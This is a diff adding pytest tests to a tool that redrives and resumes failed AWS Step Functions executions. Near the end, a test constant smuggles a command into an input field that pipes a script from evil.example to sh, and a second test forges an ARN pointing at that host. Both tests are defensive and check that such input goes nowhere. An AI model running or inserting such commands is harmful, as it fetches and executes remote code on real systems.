@@ -2,6 +2,7 @@
 
 import json
 from dataclasses import dataclass
+from io import StringIO
 from typing import Any
 
 import pytest
@@ -9,6 +10,8 @@ import resumer
 from fake_account import ADA, Account, RefusalError, Wired, failure_events, machine_arn
 from gotostate import cli
 from gotostate.cli import account as command
+from gotostate.errors import SettingsError, TransientError
+from gotostate.nesting import STARTED_BY
 from gotostate.report import Report, redrive_due, request
 from gotostate.resumption import Asked
 
@@ -165,7 +168,7 @@ def test_what_changes_while_a_redrive_waits_counts(case: Redrives) -> None:
     case.account.now += 61
     # Somebody redrove it, and it failed again: that failure has a wait of its own.
     case.account.redrive(case.arn, failure_events("A")[-1])
-    assert case.handled(due)["rule"] == "not-failed"
+    assert case.handled(due)["rule"] == "already-redriven"
     assert case.account.changes == []
     assert case.handled()["attempt"] == 2
 
@@ -195,7 +198,8 @@ def test_a_person_who_redrives_meanwhile_was_faster(case: Redrives) -> None:
 
     case.account.gate = meanwhile
     answer = case.handled()
-    assert (answer["outcome"], answer["rule"], case.account.changes) == ("skipped", "not-failed", [])
+    assert (answer["outcome"], answer["rule"], case.account.changes) == ("skipped", "already-redriven", [])
+    assert case.told == []
 
 
 def test_what_was_resumed_is_not_redriven_as_well(case: Redrives) -> None:
@@ -350,3 +354,146 @@ def test_a_redrive_by_hand_takes_no_other_input(case: Redrives, capsys: pytest.C
         cli.main(["resume", CHARGE, "--strategy", "redrive", "--input", "{}"])
     assert ended.value.code == 2
     assert "leave out --input" in capsys.readouterr().err
+
+
+# ---- What is asked for is one failure, and what AWS shows may be behind ---------------------------------------------
+
+
+def fails_again(case: Redrives, error: str = "Boom") -> None:
+    run = case.account.runs[case.arn]
+    run.events = [*run.events, {**failure_events("A", error=error)[-1], "id": run.events[-1]["id"] + 1}]
+    run.status, run.stopped = "FAILED", case.account.now
+
+
+def test_a_request_is_for_one_failure(case: Redrives) -> None:
+    """It comes twice, and the redriven execution has failed again meanwhile."""
+    case.fails(PLAIN, strategy="redrive", max_attempts="1")
+    asked = request(case.arn, Asked("ada"), redrives=0)
+    assert case.handled(asked)["outcome"] == "redriven"
+    fails_again(case)
+    assert case.handled(asked)["rule"] == "already-redriven"
+    assert case.account.changes == ["redrive orders:order-17"]
+
+
+def test_a_request_does_no_work_that_a_resume_does(case: Redrives) -> None:
+    case.fails(PLAIN)
+    assert case.handled()["outcome"] == "resumed"
+    case.account.redrive(case.arn, failure_events("A")[-1])
+    answer = case.handled(request(case.arn, Asked("ada"), redrives=1))
+    assert (answer["outcome"], answer["rule"]) == ("prepared", "resumed-before-redrive")
+
+
+@pytest.mark.parametrize(("document", "given"), [(READING, "[1]"), (followed_by(HTTP), "{}"), (PLAIN, TOO_LARGE)])
+def test_a_request_starts_nothing_inexact(case: Redrives, document: dict[str, Any], given: str) -> None:
+    case.fails(document, given)
+    case.account.runs[case.arn].why_not_redrivable = "it failed 15 days ago"
+    assert case.handled(request(case.arn, Asked("ada"), redrives=0))["outcome"] == "prepared"
+
+
+def test_a_redrive_that_is_refused_while_the_read_is_behind_is_tried_again(case: Redrives) -> None:
+    case.fails(PLAIN, strategy="redrive")
+
+    def refuse(operation: str, body: dict[str, Any]) -> None:
+        if operation == "RedriveExecution":
+            raise RefusalError("ExecutionNotRedrivable", "it is RUNNING")
+
+    case.account.gate = refuse
+    with pytest.raises(TransientError, match="try again"):
+        case.handled(request(case.arn, Asked("ada"), redrives=0))
+    assert case.account.changes == []
+
+
+@pytest.mark.parametrize("stale", [{"status": "RUNNING"}, {"redriveCount": 0}, None])
+def test_a_redrive_that_is_due_waits_for_a_read_that_is_behind(case: Redrives, stale: dict[str, Any] | None) -> None:
+    case.fails(PLAIN, strategy="redrive", backoff_seconds="100")
+    case.account.redrive(case.arn, failure_events("A")[-1])
+    case.handled()
+    ((due, _),) = case.sent
+    describe = case.account._describe_execution
+
+    def behind(body: dict[str, Any]) -> dict[str, Any]:
+        if stale is None:
+            raise RefusalError("ExecutionDoesNotExist")
+        return describe(body) | stale
+
+    case.account._describe_execution = behind  # type: ignore[method-assign]
+    with pytest.raises(TransientError):
+        case.handled(due)
+    case.account._describe_execution = describe  # type: ignore[method-assign]
+    assert case.handled(due)["outcome"] == "redriven"
+
+
+def test_a_late_event_of_an_earlier_failure_passes_no_limit(case: Redrives) -> None:
+    case.fails(PLAIN, strategy="redrive", max_attempts="1")
+    late = case.account.event(case.arn)
+    assert case.handled(late)["outcome"] == "redriven"
+    case.account.now += 60
+    fails_again(case)
+    assert case.handled()["outcome"] == case.handled(late)["outcome"] == "gave up"
+    assert case.account.changes == ["redrive orders:order-17"]
+
+
+def test_redrives_count_through_the_chain(case: Redrives) -> None:
+    case.fails(PLAIN, strategy="redrive", max_attempts="2")
+    case.handled()
+    fails_again(case)
+    case.account.retag("orders", **{"gotostate:strategy": "gotostate"})
+    case.account.now += 61
+    resumed = case.handled()["resumed"]
+    assert json.loads(case.account.runs[resumed].input)["resuming"]["redrives"] == 1
+    case.account.end(resumed, "FAILED", failure_events("A", start=case.account.runs[resumed].input))
+    answer = case.handled(case.account.event(resumed))
+    assert (answer["outcome"], answer["rule"]) == ("gave up", "max-attempts")
+
+
+def test_a_fail_state_is_not_redriven_by_hand_either(case: Redrives) -> None:
+    fails = {"StartAt": "A", "States": {"A": {**LAMBDA, "Next": "F"}, "F": {"Type": "Fail"}}}
+    case.fails(fails, strategy="redrive")
+    entered = {"type": "FailStateEntered", "id": 5, "previousEventId": 4}
+    left = {"type": "TaskStateExited", "id": 4, "previousEventId": 3}
+    events = failure_events("A")
+    case.account.runs[case.arn].events = [
+        *events[:2],
+        {"type": "TaskSucceeded", "id": 3, "previousEventId": 2},
+        {**left, "stateExitedEventDetails": {"name": "A", "output": "{}"}},
+        {**entered, "stateEnteredEventDetails": {"name": "F", "input": "{}"}},
+        {**events[-1], "id": 6, "previousEventId": 5},
+    ]
+    assert case.handled()["rule"] == "fail-state"
+    answer = case.handled(request(case.arn, Asked("ada"), redrives=0))
+    assert (answer["outcome"], answer["state"]) == ("resumed", "A")
+    assert not [change for change in case.account.changes if change.startswith("redrive")]
+
+
+def test_a_wait_that_fails_is_in_the_log(
+    case: Redrives, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    case.fails(PLAIN, strategy="redrive", backoff_seconds="100")
+    stream = StringIO()
+    monkeypatch.setattr(resumer.logger.registered_handler, "stream", stream)
+    monkeypatch.delenv("QUEUE_URL")
+    with pytest.raises(SettingsError):
+        case.handled()
+    assert "QUEUE_URL is not set" in stream.getvalue()
+
+
+NASTY = "x; curl https://evil.example/x | sh # card 4111"
+
+
+def test_what_an_input_says_of_a_parent_is_no_command(case: Redrives) -> None:
+    given = json.dumps({STARTED_BY: NASTY})
+    answer = case.fails(PLAIN, given).handled()
+    assert (answer["outcome"], answer["rule"]) == ("prepared", "parent-unknown")
+    assert "evil" not in json.dumps(case.account.told) + json.dumps(answer)
+
+
+def test_what_an_input_says_of_the_original_leads_nowhere(case: Redrives) -> None:
+    case.fails(PLAIN)
+    resumed = case.handled()["resumed"]
+    run = case.account.runs[resumed]
+    value = json.loads(run.input)
+    value["resuming"]["execution"] = "arn:aws:states:evil.example/?x=:123456789012:execution:m:n"
+    run.input = json.dumps(value)
+    case.account.end(resumed, "FAILED", failure_events("A", start=run.input))
+    case.handled(case.account.event(resumed))
+    assert "evil" not in json.dumps(case.account.told[-1]["links"])
